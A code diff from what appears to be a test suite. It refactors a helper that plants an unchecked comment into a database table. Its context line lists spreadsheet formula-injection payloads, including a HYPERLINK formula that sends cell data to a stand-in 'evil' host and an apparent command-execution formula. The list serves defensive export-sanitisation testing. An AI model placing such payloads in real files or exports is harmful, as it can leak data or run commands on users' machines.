@@ -33,7 +33,9 @@ EVIL = ['=HYPERLINK("http://evil/?x="&A1,"c")', "+1+1", "-2+3", "@SUM(A1)", "=cm
 def _plant_comment(ctx, comment: str, code: str = "ec_beds") -> None:
     """An old store's comment, written past today's checks (as stores from before them hold)."""
     with ctx.db.write() as session:
-        session.execute(update(VALUES_TABLE).where(VALUES_TABLE.c.org_code == COUNTY, VALUES_TABLE.c.year == YEAR, VALUES_TABLE.c.indicator_code == code)
+        cols = VALUES_TABLE.c
+        session.execute(update(VALUES_TABLE)
+                        .where(cols.org_code == COUNTY, cols.year == YEAR, cols.indicator_code == code)
                         .values(comment=comment))
 
 
